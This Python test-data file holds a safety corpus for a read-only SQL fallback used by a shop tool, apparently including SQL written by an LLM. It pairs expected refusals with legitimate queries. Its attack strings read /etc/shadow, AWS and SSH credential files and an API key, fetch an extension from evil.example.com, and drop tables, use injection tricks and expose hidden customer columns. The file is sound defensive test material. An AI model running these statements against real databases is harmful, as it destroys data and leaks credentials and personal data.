"""The safety corpus of the read-only SQL fallback (``shopkeeper.ask.sql``), as data.

Every :class:`Attack` is SQL a question (or a model, or text injected into a question) might
carry. ``outcome`` says what must happen to it:

- ``refused``: :func:`~shopkeeper.ask.sql.check_sql` raises ``SqlRefused`` whose message
  matches ``expect``, before anything runs;
- ``stopped``: it passes the check but :func:`~shopkeeper.ask.sql.run_sql` stops it
  (``SqlTooCostly``, message matching ``expect``) under the test's short timeout;

Nothing is let through for being harmless: a comment, a dollar-quoted string or an alias named
after a hidden column is refused even where what it hides could not run.

The model path (an LLM writing the SQL) goes through the same ``check_sql``/``run_sql``, so a
test of that path imports :data:`ATTACKS` and feeds each ``sql`` as the model's reply.
:data:`LEGIT` are questions' SELECTs that must pass and return rows from the test shop.
"""

from __future__ import annotations

from dataclasses import dataclass

CATEGORIES = (
    "ddl", "dml", "stacked", "file_reader", "copy_attach_extension", "pragma_set_call",
    "comment_trick", "string_trick", "unicode", "forbidden_table", "catalog_probe",
    "settings_env", "hidden_column", "function", "long", "costly", "limit",
)


@dataclass(frozen=True)
class Attack:
    name: str
    category: str
    sql: str
    expect: str  # a regex the refusal (or stop) message must match
    outcome: str = "refused"


NOT_SELECT = r"is not allowed: only a SELECT"
COMMENTS = r"comments are not allowed in a question's SQL"
ONE_STATEMENT = r"only one SELECT statement is allowed; found \d+ statements"
NOT_A_TABLE = r"is not one of the tables questions may read: products, .*orders"
READS_FILES = r"(is not allowed: it reads files|looks like a file: reading files is not allowed)"
NOT_IN_MAIN = r"is not allowed: questions read the store's tables in main only"
CANNOT_PARSE = r"cannot parse the SQL"
INTERNALS = r"is not allowed: (it reads the database's internals|questions read the store)"
HIDDEN = (r"(is not one of the columns questions may read|refers to a whole table|whole table is "
          r"not a value|is not allowed)")
STOPPED = r"ran past [\d.]+ s and was stopped|needed more than .* of memory"

_CROSS = ", ".join(f"order_lines l{i}" for i in range(12))


def _a(name: str, category: str, sql: str, expect: str, outcome: str = "refused") -> Attack:
    return Attack(name, category, sql, expect, outcome)


ATTACKS: list[Attack] = [
    # -- DDL -------------------------------------------------------------------------------
    _a("drop_table", "ddl", "DROP TABLE orders", NOT_SELECT),
    _a("drop_if_exists_cascade", "ddl", "DROP TABLE IF EXISTS users CASCADE", NOT_SELECT),
    _a("drop_view", "ddl", "DROP VIEW IF EXISTS v", NOT_SELECT),
    _a("drop_schema", "ddl", "DROP SCHEMA main CASCADE", NOT_SELECT),
    _a("create_table", "ddl", "CREATE TABLE x (a INT)", NOT_SELECT),
    _a("create_table_as", "ddl", "CREATE TABLE stolen AS SELECT * FROM users", NOT_SELECT),
    _a("create_or_replace_table", "ddl",
       "CREATE OR REPLACE TABLE orders AS SELECT * FROM orders LIMIT 0", NOT_SELECT),
    _a("create_view", "ddl", "CREATE VIEW v AS SELECT * FROM api_tokens", NOT_SELECT),
    _a("create_temp_table", "ddl", "CREATE TEMP TABLE t AS SELECT 1", NOT_SELECT),
    _a("create_macro", "ddl", "CREATE MACRO m(a) AS a + 1", NOT_SELECT),
    _a("create_secret", "ddl",
       "CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')", NOT_SELECT),
    _a("alter_rename", "ddl", "ALTER TABLE orders RENAME TO orders_old", NOT_SELECT),
    _a("alter_add_column", "ddl", "ALTER TABLE orders ADD COLUMN x INT", NOT_SELECT),
    _a("truncate", "ddl", "TRUNCATE orders", NOT_SELECT),
    _a("create_index", "ddl", "CREATE INDEX i ON orders (order_id)", NOT_SELECT),
    # -- DML -------------------------------------------------------------------------------
    _a("insert_values", "dml", "INSERT INTO orders (order_id) VALUES ('x')", NOT_SELECT),
    _a("insert_select", "dml", "INSERT INTO refunds SELECT * FROM refunds", NOT_SELECT),
    _a("update", "dml", "UPDATE orders SET status = 'cancelled'", NOT_SELECT),
    _a("update_users_role", "dml", "UPDATE users SET role = 'owner'", NOT_SELECT),
    _a("delete", "dml", "DELETE FROM orders WHERE 1 = 1", NOT_SELECT),
    _a("delete_audit", "dml", "DELETE FROM audit_log", NOT_SELECT),
    _a("merge", "dml",
       "MERGE INTO orders USING refunds ON orders.order_id = refunds.order_id "
       "WHEN MATCHED THEN DELETE", NOT_SELECT),
    _a("select_into", "dml", "SELECT * INTO stolen FROM orders", r"SELECT … INTO writes"),
    _a("cte_then_insert", "dml",
       "WITH x AS (SELECT 1 AS a) INSERT INTO orders (order_id) SELECT a FROM x", NOT_SELECT),
    _a("insert_or_replace", "dml",
       "INSERT OR REPLACE INTO orders (order_id) VALUES ('o1')", NOT_SELECT),
    _a("values_statement", "dml", "VALUES (1), (2)", NOT_SELECT),
    # -- several statements ------------------------------------------------------------------
    _a("select_then_drop", "stacked", "SELECT 1; DROP TABLE orders", ONE_STATEMENT),
    _a("select_then_delete", "stacked",
       "SELECT count(*) FROM orders; DELETE FROM orders", ONE_STATEMENT),
    _a("two_selects", "stacked", "SELECT 1; SELECT 2", ONE_STATEMENT),
    _a("select_then_attach", "stacked",
       "SELECT 1; ATTACH '/tmp/evil.duckdb' AS evil", ONE_STATEMENT),
    _a("select_then_set", "stacked",
       "SELECT 1; SET enable_external_access = true", ONE_STATEMENT),
    _a("select_then_copy", "stacked",
       "SELECT 1; COPY orders TO '/tmp/orders.csv'", ONE_STATEMENT),
    _a("newline_stacked", "stacked", "SELECT 1\n;\nDROP TABLE users\n", ONE_STATEMENT),
    _a("transaction_wrapper", "stacked",
       "BEGIN; DELETE FROM orders; COMMIT", ONE_STATEMENT),
    _a("select_then_rollback_trick", "stacked",
       "ROLLBACK; DROP TABLE orders", ONE_STATEMENT),
    _a("select_then_checkpoint", "stacked", "SELECT 1; CHECKPOINT", ONE_STATEMENT),
    _a("three_statements", "stacked",
       "SELECT 1; SELECT 2; UPDATE orders SET status = NULL", ONE_STATEMENT),
    # -- files -------------------------------------------------------------------------------
    _a("read_csv", "file_reader", "SELECT * FROM read_csv('/etc/passwd')", READS_FILES),
    _a("read_csv_auto", "file_reader", "SELECT * FROM read_csv_auto('/etc/passwd')",
       READS_FILES),
    _a("read_parquet", "file_reader", "SELECT * FROM read_parquet('x.parquet')", READS_FILES),
    _a("parquet_scan", "file_reader", "SELECT * FROM parquet_scan('x.parquet')", READS_FILES),
    _a("read_json", "file_reader", "SELECT * FROM read_json('x.json')", READS_FILES),
    _a("read_json_auto", "file_reader", "SELECT * FROM read_json_auto('x.json')", READS_FILES),
    _a("read_ndjson", "file_reader", "SELECT * FROM read_ndjson('x.ndjson')", READS_FILES),
    _a("glob", "file_reader", "SELECT * FROM glob('/home/*/.ssh/*')", READS_FILES),
    _a("read_text", "file_reader", "SELECT * FROM read_text('/etc/shadow')", READS_FILES),
    _a("read_text_scalar", "file_reader", "SELECT read_text('/etc/shadow')", READS_FILES),
    _a("read_blob", "file_reader", "SELECT * FROM read_blob('shopkeeper.toml')", READS_FILES),
    _a("sniff_csv", "file_reader", "SELECT * FROM sniff_csv('/etc/passwd')", READS_FILES),
    _a("from_path_string", "file_reader", "SELECT * FROM '/etc/passwd'", READS_FILES),
    _a("from_csv_string", "file_reader", "FROM 'orders.csv'", READS_FILES),
    _a("from_url_string", "file_reader",
       "SELECT * FROM 'https://example.com/x.parquet'", READS_FILES),
    _a("from_home_string", "file_reader", "SELECT * FROM '~/.aws/credentials'", READS_FILES),
    _a("join_file", "file_reader",
       "SELECT o.order_id FROM orders o JOIN read_csv('/tmp/x.csv') x ON x.id = o.order_id",
       READS_FILES),
    _a("subquery_file", "file_reader",
       "SELECT * FROM orders WHERE order_id IN (SELECT column0 FROM read_csv('/etc/hosts'))",
       READS_FILES),
    _a("parquet_metadata", "file_reader", "SELECT * FROM parquet_metadata('x.parquet')",
       READS_FILES),
    _a("read_xlsx", "file_reader", "SELECT * FROM read_xlsx('x.xlsx')", READS_FILES),
    _a("st_read", "file_reader", "SELECT * FROM st_read('x.shp')", READS_FILES),
    # -- COPY, ATTACH, extensions ----------------------------------------------------------
    _a("copy_to", "copy_attach_extension", "COPY orders TO '/tmp/orders.csv'", NOT_SELECT),
    _a("copy_query_to", "copy_attach_extension",
       "COPY (SELECT * FROM users) TO '/tmp/u.parquet' (FORMAT parquet)", NOT_SELECT),
    _a("copy_from", "copy_attach_extension", "COPY orders FROM '/tmp/evil.csv'", NOT_SELECT),
    _a("attach", "copy_attach_extension", "ATTACH '/tmp/evil.duckdb' AS evil", NOT_SELECT),
    _a("attach_memory", "copy_attach_extension", "ATTACH ':memory:' AS m", NOT_SELECT),
    _a("attach_postgres", "copy_attach_extension",
       "ATTACH 'dbname=x host=evil' AS pg (TYPE postgres)", NOT_SELECT),
    _a("detach", "copy_attach_extension", "DETACH evil", NOT_SELECT),
    _a("install_httpfs", "copy_attach_extension", "INSTALL httpfs", NOT_SELECT),
    _a("force_install", "copy_attach_extension", "FORCE INSTALL httpfs", NOT_SELECT),
    _a("install_from_url", "copy_attach_extension",
       "INSTALL evil FROM 'http://evil.example.com'", NOT_SELECT),
    _a("load_httpfs", "copy_attach_extension", "LOAD httpfs", NOT_SELECT),
    _a("load_path", "copy_attach_extension", "LOAD '/tmp/evil.duckdb_extension'", NOT_SELECT),
    _a("use_other_db", "copy_attach_extension", "USE evil", NOT_SELECT),
    # -- PRAGMA, SET, CALL, EXPORT ------------------------------------------------------------
    _a("pragma_database_list", "pragma_set_call", "PRAGMA database_list", NOT_SELECT),
    _a("pragma_table_info", "pragma_set_call", "PRAGMA table_info('users')", NOT_SELECT),
    _a("pragma_memory", "pragma_set_call", "PRAGMA memory_limit = '100GB'", NOT_SELECT),
    _a("set_external_access", "pragma_set_call", "SET enable_external_access = true",
       NOT_SELECT),
    _a("set_memory", "pragma_set_call", "SET memory_limit = '100GB'", NOT_SELECT),
    _a("set_global", "pragma_set_call", "SET GLOBAL threads = 1", NOT_SELECT),
    _a("reset", "pragma_set_call", "RESET memory_limit", NOT_SELECT),
    _a("call_pragma", "pragma_set_call", "CALL pragma_version()", NOT_SELECT),
    _a("call_tables", "pragma_set_call", "CALL duckdb_tables()", NOT_SELECT),
    _a("export_database", "pragma_set_call", "EXPORT DATABASE '/tmp/dump'", CANNOT_PARSE
       + "|" + NOT_SELECT),
    _a("import_database", "pragma_set_call", "IMPORT DATABASE '/tmp/dump'", CANNOT_PARSE
       + "|" + NOT_SELECT),
    _a("checkpoint", "pragma_set_call", "CHECKPOINT", NOT_SELECT),
    _a("vacuum", "pragma_set_call", "VACUUM", NOT_SELECT),
    _a("describe", "pragma_set_call", "DESCRIBE users", NOT_SELECT),
    _a("show_tables", "pragma_set_call", "SHOW TABLES", NOT_SELECT),
    _a("summarize", "pragma_set_call", "SUMMARIZE users", NOT_SELECT),
    _a("explain_analyze", "pragma_set_call", "EXPLAIN ANALYZE SELECT 1", NOT_SELECT),
    # -- comments ----------------------------------------------------------------------------
    _a("line_comment_then_drop", "comment_trick", "SELECT 1 -- harmless\n; DROP TABLE orders",
       ONE_STATEMENT),
    _a("block_comment_then_drop", "comment_trick",
       "SELECT 1 /* harmless */; DROP TABLE orders", ONE_STATEMENT),
    _a("comment_first_drop", "comment_trick", "/* SELECT 1; */ DROP TABLE orders", NOT_SELECT),
    _a("line_comment_first_drop", "comment_trick", "-- SELECT\nDELETE FROM orders",
       NOT_SELECT),
    _a("nested_comment_then_drop", "comment_trick",
       "SELECT 1 /* outer /* inner */ ; DROP TABLE orders; */", COMMENTS),
    _a("unterminated_comment", "comment_trick", "SELECT 1 /* ; DROP TABLE orders",
       r"cannot parse|only one SELECT"),
    _a("comment_inside_keyword", "comment_trick", "DR/**/OP TABLE orders",
       r"cannot parse|is not allowed"),
    _a("hidden_in_block_comment", "comment_trick", "SELECT 1 /* ; DROP TABLE orders */",
       COMMENTS),
    _a("hidden_in_line_comment", "comment_trick", "SELECT 1 -- ; DROP TABLE orders",
       COMMENTS),
    _a("hidden_mysql_comment", "comment_trick", "SELECT 1 /*! ; DROP TABLE orders */",
       COMMENTS),
    _a("comment_hides_where", "comment_trick",
       "SELECT order_id FROM orders /* WHERE 1=0 */ -- ; DELETE FROM orders",
       COMMENTS),
    # -- strings -----------------------------------------------------------------------------
    _a("quote_breakout", "string_trick", "SELECT 'a'; DROP TABLE orders; --'", ONE_STATEMENT),
    _a("doubled_quote_breakout", "string_trick", "SELECT 'it''s'; DELETE FROM orders",
       ONE_STATEMENT),
    _a("backslash_quote", "string_trick", "SELECT 'a\\'; DROP TABLE orders; --'",
       ONE_STATEMENT),
    _a("escape_string", "string_trick", "SELECT E'\\''; DROP TABLE orders; --'",
       r"only one SELECT|cannot parse"),
    _a("dollar_quote_stacked", "string_trick", "SELECT $$x$$; DROP TABLE orders",
       ONE_STATEMENT),
    _a("string_as_table", "string_trick", "SELECT * FROM \"users\"", NOT_A_TABLE),
    _a("dollar_quoted_statement", "string_trick", "SELECT $$; DROP TABLE orders; $$ AS s",
       r"dollar-quoted or raw strings are not allowed"),
    _a("nul_byte", "string_trick", "SELECT 1\x00; DROP TABLE orders", r"NUL character"),
    _a("query_in_string", "string_trick", "SELECT query('DROP TABLE orders')",
       r"function query is not allowed: it runs SQL given as text"),
    # -- unicode -----------------------------------------------------------------------------
    _a("fullwidth_select", "unicode", "ＳＥＬＥＣＴ * FROM users",
       r"cannot parse|is not allowed|only one SELECT"),
    _a("cyrillic_table", "unicode", "SELECT * FROM usеrs", NOT_A_TABLE),
    _a("cyrillic_orders", "unicode", "SELECT * FROM ordеrs", NOT_A_TABLE),
    _a("zero_width_in_keyword", "unicode", "DR\u200bOP TABLE orders",
       r"cannot parse|is not allowed"),
    _a("zero_width_table", "unicode", "SELECT * FROM \"users\u200b\"", NOT_A_TABLE),
    _a("rtl_override", "unicode", "SELECT * FROM \u202esresu", NOT_A_TABLE + "|cannot parse"),
    _a("fullwidth_semicolon", "unicode", "SELECT 1；DROP TABLE orders",
       r"cannot parse|only one SELECT|is not allowed"),
    _a("kelvin_sign_table", "unicode", "SELECT * FROM \u212aey_table",
       NOT_A_TABLE + "|cannot parse"),
    # -- forbidden tables, also wrapped -----------------------------------------------------
    _a("users", "forbidden_table", "SELECT * FROM users", NOT_A_TABLE),
    _a("users_password_hash", "forbidden_table", "SELECT username, password_hash FROM users",
       NOT_A_TABLE),
    _a("api_tokens", "forbidden_table", "SELECT token_hash FROM api_tokens", NOT_A_TABLE),
    _a("web_sessions", "forbidden_table", "SELECT csrf_token FROM web_sessions", NOT_A_TABLE),
    _a("setup_secrets", "forbidden_table", "SELECT * FROM setup_secrets", NOT_A_TABLE),
    _a("audit_log", "forbidden_table", "SELECT * FROM audit_log", NOT_A_TABLE),
    _a("jobs", "forbidden_table", "SELECT params FROM jobs", NOT_A_TABLE),
    _a("loads", "forbidden_table", "SELECT * FROM loads", NOT_A_TABLE),
    _a("quarantine", "forbidden_table", "SELECT raw FROM quarantine", NOT_A_TABLE),
    _a("migrations", "forbidden_table", "SELECT * FROM _migrations", NOT_A_TABLE),
    _a("service_messages", "forbidden_table", "SELECT text FROM service_messages",
       NOT_A_TABLE),
    _a("cte_wraps_users", "forbidden_table",
       "WITH x AS (SELECT * FROM users) SELECT * FROM x", NOT_A_TABLE),
    _a("cte_wraps_read_csv", "forbidden_table",
       "WITH x AS (SELECT * FROM read_csv('/etc/passwd')) SELECT * FROM x", READS_FILES),
    _a("cte_shadows_orders", "forbidden_table",
       "WITH orders AS (SELECT * FROM users) SELECT * FROM orders", NOT_A_TABLE),
    _a("cte_named_users", "forbidden_table",
       "WITH users AS (SELECT 1 AS x) SELECT x FROM users",
       r"a CTE may not be named like the warehouse table 'users'"),
    _a("cte_scope_escape", "forbidden_table",
       "SELECT * FROM (WITH users AS (SELECT 1 AS x) SELECT x FROM users) a, users",
       NOT_A_TABLE + r"|a CTE may not be named"),
    _a("in_subquery_users", "forbidden_table",
       "SELECT * FROM orders WHERE customer_id IN (SELECT user_id FROM users)", NOT_A_TABLE),
    _a("exists_audit", "forbidden_table",
       "SELECT 1 WHERE EXISTS (SELECT 1 FROM audit_log WHERE actor = 'owner')", NOT_A_TABLE),
    _a("scalar_subquery_tokens", "forbidden_table",
       "SELECT (SELECT max(token_hash) FROM api_tokens) AS t", NOT_A_TABLE),
    _a("union_users", "forbidden_table",
       "SELECT customer_id FROM customers UNION ALL SELECT password_hash FROM users",
       NOT_A_TABLE),
    _a("join_jobs", "forbidden_table",
       "SELECT o.order_id FROM orders o JOIN jobs j ON j.job_id = o.order_id", NOT_A_TABLE),
    _a("main_users", "forbidden_table", "SELECT * FROM main.users", NOT_A_TABLE),
    _a("quoted_users", "forbidden_table", "SELECT * FROM \"USERS\"", NOT_A_TABLE),
    # -- catalogue probes --------------------------------------------------------------------
    _a("information_schema_tables", "catalog_probe",
       "SELECT table_name FROM information_schema.tables", NOT_IN_MAIN),
    _a("information_schema_columns", "catalog_probe",
       "SELECT * FROM information_schema.columns WHERE table_name = 'users'", NOT_IN_MAIN),
    _a("pg_catalog", "catalog_probe", "SELECT * FROM pg_catalog.pg_tables", NOT_IN_MAIN),
    _a("duckdb_tables", "catalog_probe", "SELECT * FROM duckdb_tables()", INTERNALS),
    _a("duckdb_columns", "catalog_probe", "SELECT * FROM duckdb_columns()", INTERNALS),
    _a("duckdb_databases", "catalog_probe", "SELECT path FROM duckdb_databases()", INTERNALS),
    _a("duckdb_extensions", "catalog_probe", "SELECT * FROM duckdb_extensions()", INTERNALS),
    _a("duckdb_secrets", "catalog_probe", "SELECT * FROM duckdb_secrets()",
       INTERNALS + "|reads settings"),
    _a("pragma_table_info_fn", "catalog_probe", "SELECT * FROM pragma_table_info('users')",
       INTERNALS),
    _a("sqlite_master", "catalog_probe", "SELECT * FROM sqlite_master", NOT_A_TABLE),
    _a("other_catalog", "catalog_probe", "SELECT * FROM w.main.orders", NOT_IN_MAIN),
    _a("system_catalog", "catalog_probe", "SELECT * FROM system.main.duckdb_tables",
       NOT_IN_MAIN),
    _a("temp_schema", "catalog_probe", "SELECT * FROM temp.orders", NOT_IN_MAIN),
    # -- settings and environment ------------------------------------------------------------
    _a("getenv", "settings_env", "SELECT getenv('HOME')",
       r"function getenv is not allowed: it reads settings or the environment"),
    _a("getenv_api_key", "settings_env", "SELECT getenv('SHOPKEEPER_LLM_API_KEY') AS k",
       r"function getenv is not allowed"),
    _a("current_setting", "settings_env", "SELECT current_setting('memory_limit')",
       r"function current_setting is not allowed: it reads settings"),
    _a("current_setting_in_cte", "settings_env",
       "WITH s AS (SELECT current_setting('enable_external_access') AS v) SELECT v FROM s",
       r"function current_setting is not allowed"),
    _a("duckdb_settings", "settings_env", "SELECT * FROM duckdb_settings()",
       r"reads settings|internals"),
    _a("version", "settings_env", "SELECT version()", r"function version is not allowed"),
    _a("current_database", "settings_env", "SELECT current_database()",
       r"function current_database is not allowed"),
    # -- hidden columns ----------------------------------------------------------------------
    _a("customer_email", "hidden_column", "SELECT email FROM customers", HIDDEN),
    _a("customer_phone_qualified", "hidden_column",
       "SELECT c.phone FROM customers AS c", HIDDEN),
    _a("supplier_contact", "hidden_column", "SELECT contact_email FROM suppliers", HIDDEN),
    _a("lineage_source_file", "hidden_column", "SELECT _source_file FROM orders", HIDDEN),
    _a("whole_row", "hidden_column", "SELECT c FROM customers c", HIDDEN),
    _a("whole_row_struct_extract", "hidden_column",
       "SELECT struct_extract(customers, 'email') FROM customers", HIDDEN),
    _a("whole_row_to_json", "hidden_column", "SELECT to_json(c) FROM customers c", HIDDEN),
    _a("columns_regex", "hidden_column", "SELECT COLUMNS('.*') FROM customers", HIDDEN),
    _a("rename_table_columns", "hidden_column",
       "SELECT x3 FROM customers AS c(x1, x2, x3)", r"renaming the columns of table 'customers'"),
    _a("rename_table_columns_second", "hidden_column",
       "SELECT c.x2 FROM customers c(x1, x2)", r"renaming the columns of table 'customers'"),
    _a("positional_reference", "hidden_column", "SELECT #3 FROM customers",
       r"PositionalColumn is not allowed|positional column references"),
    _a("star_like", "hidden_column", "SELECT * LIKE '%mail%' FROM customers",
       r"SELECT \* could not be limited|is not allowed"),
    _a("star_replace", "hidden_column", "SELECT * REPLACE (email AS name) FROM customers",
       HIDDEN),
    _a("parenthesised_row", "hidden_column", "SELECT (customers).email FROM customers", HIDDEN),
    _a("order_by_hidden", "hidden_column",
       "SELECT customer_id FROM customers ORDER BY phone", HIDDEN),
    _a("hidden_in_nested_subquery", "hidden_column",
       "SELECT customer_id FROM customers WHERE customer_id IN "
       "(SELECT c2.customer_id FROM customers c2 WHERE c2.email LIKE '%@example.com')", HIDDEN),
    _a("alias_shadows_hidden_column", "hidden_column",
       "SELECT 'x' AS email, customer_id FROM customers WHERE email LIKE 'a%'", r"the alias 'email' is the name of a column kept out of questions"),
    _a("email_in_where", "hidden_column",
       "SELECT customer_id FROM customers WHERE email LIKE 'a%'", HIDDEN),
    # -- functions ---------------------------------------------------------------------------
    _a("query_table", "function", "SELECT * FROM query_table('users')",
       r"query_table is not allowed"),
    _a("unknown_function", "function", "SELECT totally_new_function(1)",
       r"function totally_new_function is not allowed"),
    _a("nextval", "function", "SELECT nextval('seq')", r"function nextval is not allowed"),
    _a("setseed", "function", "SELECT setseed(0.5)", r"function setseed is not allowed"),
    _a("schema_qualified_function", "function", "SELECT main.getenv('HOME')",
       r"not allowed|is not one of the columns"),
    _a("json_serialize_sql", "function", "SELECT json_serialize_sql('SELECT 1')",
       r"function json_serialize_sql is not allowed"),
    _a("repeat_huge", "function", "SELECT repeat('x', 2000000000)",
       r"function repeat is not allowed"),
    _a("parameter", "function", "SELECT * FROM orders WHERE order_id = ?",
       r"query parameters are not allowed|cannot parse"),
    _a("load_extension_fn", "function", "SELECT load_extension('httpfs')",
       r"not allowed"),
    # -- very long -------------------------------------------------------------------------
    _a("one_megabyte", "long",
       "SELECT order_id FROM orders WHERE order_id IN ("
       + ", ".join(f"'{i:08d}'" for i in range(100_000)) + ")",
       r"characters long; a question's query may have at most"),
    _a("thousands_of_unions", "long", " UNION ALL ".join(["SELECT 1"] * 5000),
       r"characters long"),
    _a("hundreds_of_unions", "long", " UNION ALL ".join(["SELECT 1 AS x"] * 400),
       r"UNION/INTERSECT/EXCEPT parts|nested too deeply"),
    _a("deep_parentheses", "long", "SELECT " + "(" * 3000 + "1" + ")" * 3000,
       r"nested too deeply|too large|cannot parse"),
    _a("deep_subqueries", "long",
       "SELECT * FROM " + "(SELECT * FROM " * 400 + "orders" + ") t" * 400,
       r"nested too deeply|too large|cannot parse|reads over"),
    _a("many_tables", "long", "SELECT 1 FROM " + ", ".join(f"orders o{i}" for i in range(40)),
       r"reads over 30 tables"),
    _a("huge_comment", "long", "SELECT 1 /*" + "x" * 100_000 + "*/", r"characters long"),
    # -- very costly -------------------------------------------------------------------------
    _a("recursive_cte_forever", "costly",
       "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT n FROM t",
       r"recursive CTEs \(WITH RECURSIVE\) are not allowed"),
    _a("range_trillion", "costly", "SELECT count(*) FROM range(1000000000000)",
       r"function range is not allowed"),
    _a("range_scalar", "costly", "SELECT range(1000000000)",
       r"function range is not allowed"),
    _a("generate_series", "costly", "SELECT * FROM generate_series(1, 1000000000000)",
       r"function generate_series is not allowed"),
    _a("unnest_range", "costly", "SELECT unnest(range(1000000000000))",
       r"function range is not allowed"),
    _a("cross_join_12", "costly", f"SELECT count(*) AS n FROM {_CROSS}", STOPPED, "stopped"),
    _a("cross_join_sorted", "costly",
       "SELECT a.order_id, b.order_id AS b, c.order_id AS c FROM order_lines a, order_lines b, "
       "order_lines c, order_lines d, order_lines e, order_lines f, order_lines g, "
       "order_lines h, order_lines i, order_lines j ORDER BY a.title || j.title, c.line_number",
       STOPPED, "stopped"),
    _a("cross_join_window", "costly",
       "SELECT count(*) OVER () AS n FROM order_lines a, order_lines b, order_lines c, "
       "order_lines d, order_lines e, order_lines f, order_lines g, order_lines h, "
       "order_lines i, order_lines j, order_lines k", STOPPED, "stopped"),
    _a("cte_multiplication", "costly",
       "WITH a AS (SELECT l1.order_id FROM order_lines l1, order_lines l2, order_lines l3), "
       "b AS (SELECT x.order_id FROM a x, a y, a z) SELECT count(*) AS n FROM b p, b q",
       STOPPED, "stopped"),
    _a("regex_on_cross_join", "costly",
       "SELECT count(*) AS n FROM order_lines a, order_lines b, order_lines c, order_lines d, "
       "order_lines e, order_lines f, order_lines g, order_lines h, order_lines i, "
       "order_lines j, order_lines k WHERE regexp_matches(a.product_id || b.product_id || k.product_id, '(A|B)*C')",
       STOPPED, "stopped"),
    # -- LIMIT tricks ----------------------------------------------------------------------
    _a("limit_percent", "limit", "SELECT order_id FROM orders LIMIT 10%",
       r"LIMIT must be a whole number"),
    _a("limit_subquery", "limit",
       "SELECT order_id FROM orders LIMIT (SELECT count(*) FROM order_lines)",
       r"LIMIT must be a whole number"),
    _a("limit_negative", "limit", "SELECT order_id FROM orders LIMIT -1",
       r"LIMIT must be a whole number"),
    _a("limit_expression", "limit", "SELECT order_id FROM orders LIMIT 10 * 1000000",
       r"LIMIT must be a whole number"),
]


@dataclass(frozen=True)
class Legit:
    name: str
    sql: str
    min_rows: int = 1


LEGIT: list[Legit] = [
    Legit("count", "SELECT count(*) AS orders FROM orders"),
    Legit("gmv_by_channel",
          "SELECT o.channel, sum(l.line_amount) AS gmv FROM orders o "
          "JOIN order_lines l ON l.order_id = o.order_id WHERE o.status <> 'cancelled' "
          "GROUP BY o.channel ORDER BY gmv DESC"),
    Legit("monthly_cte_lag",
          "WITH monthly AS (SELECT date_trunc('month', ordered_at) AS month, count(*) AS n "
          "FROM orders GROUP BY ALL) SELECT month, n, lag(n) OVER (ORDER BY month) AS prev "
          "FROM monthly ORDER BY month", 2),
    Legit("strftime", "SELECT strftime(ordered_at, '%Y-%m') AS ym, count(*) AS n FROM orders "
          "GROUP BY ym ORDER BY ym", 2),
    Legit("ilike", "SELECT product_id, title FROM products WHERE title ILIKE '%a%'"),
    Legit("rank_window",
          "SELECT product_id, sum(quantity) AS units, "
          "rank() OVER (ORDER BY sum(quantity) DESC) AS rk FROM order_lines GROUP BY product_id",
          2),
    Legit("join_customers",
          "SELECT c.country, count(DISTINCT o.order_id) AS orders FROM orders o "
          "JOIN customers c ON c.customer_id = o.customer_id GROUP BY c.country"),
    Legit("star_customers", "SELECT * FROM customers", 3),
    Legit("correlated_subquery",
          "SELECT o.order_id, (SELECT sum(l.line_amount) FROM order_lines l "
          "WHERE l.order_id = o.order_id) AS amount FROM orders o", 5),
    Legit("case_group_by_position",
          "SELECT CASE WHEN status = 'cancelled' THEN 'cancelled' ELSE 'kept' END AS kind, "
          "count(*) AS n FROM orders GROUP BY 1", 2),
    Legit("refunds_by_kind", "SELECT kind, sum(amount) AS refunded FROM refunds GROUP BY kind"),
    Legit("filter_aggregate",
          "SELECT sum(amount) FILTER (WHERE category = 'ads') AS ads, sum(amount) AS total "
          "FROM expenses"),
    Legit("date_range",
          "SELECT order_id FROM orders WHERE ordered_at >= TIMESTAMPTZ '2024-02-01' "
          "AND ordered_at < DATE '2024-02-01' + INTERVAL 1 MONTH", 3),
    Legit("primary_supplier",
          "SELECT product_id, supplier_id, unit_cost FROM sku_suppliers WHERE is_primary"),
    Legit("union", "SELECT channel FROM orders UNION SELECT channel FROM expenses "
          "WHERE channel IS NOT NULL", 2),
    Legit("date_part", "SELECT date_part('dow', ordered_at) AS dow, count(*) AS n FROM orders "
          "GROUP BY dow ORDER BY dow"),
    Legit("having_limit",
          "SELECT customer_id, count(*) AS n FROM orders GROUP BY customer_id "
          "HAVING count(*) > 1 ORDER BY n DESC LIMIT 5000"),
    Legit("from_first", "FROM orders SELECT order_id ORDER BY order_id LIMIT 3", 3),
    Legit("running_total",
          "SELECT order_id, product_id, quantity, sum(quantity) OVER (PARTITION BY product_id "
          "ORDER BY order_id ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) AS running "
          "FROM order_lines", 7),
    Legit("reviews_order_by_all",
          "SELECT rating, count(*) AS n FROM reviews GROUP BY rating ORDER BY ALL", 2),
    Legit("chinese_aliases",
          "SELECT country AS 国家, count(*) AS 客户数 FROM customers GROUP BY 国家"),
    Legit("qualify_using",
          "SELECT o.order_id, l.product_id FROM orders AS o JOIN order_lines AS l "
          "USING (order_id) WHERE o.status <> 'cancelled' "
          "QUALIFY row_number() OVER (PARTITION BY o.order_id ORDER BY l.line_number) = 1", 4),
    Legit("text_functions",
          "SELECT upper(left(title, 3)) AS t3, length(title) AS n, "
          "replace(title, 'A', 'a') AS r FROM products", 2),
    Legit("date_diff", "SELECT date_diff('day', min(ordered_at), max(ordered_at)) AS span "
          "FROM orders"),
    Legit("share", "SELECT count(*) FILTER (WHERE status = 'completed') * 1.0 / count(*) "
          "AS share FROM orders"),
    Legit("median", "SELECT quantile_cont(line_amount, 0.5) AS median FROM order_lines"),
    Legit("exists_refund",
          "SELECT o.order_id, EXISTS (SELECT 1 FROM refunds r WHERE r.order_id = o.order_id) "
          "AS refunded FROM orders o ORDER BY o.order_id", 5),
    Legit("stock_on_hand",
          "SELECT i.product_id, p.title, i.on_hand FROM inventory_snapshots i "
          "JOIN products p USING (product_id) ORDER BY i.on_hand DESC", 2),
    Legit("string_agg", "SELECT string_agg(DISTINCT channel, ', ') AS channels FROM orders"),
    Legit("count_orders", "SELECT count(*) AS n FROM orders"),
]
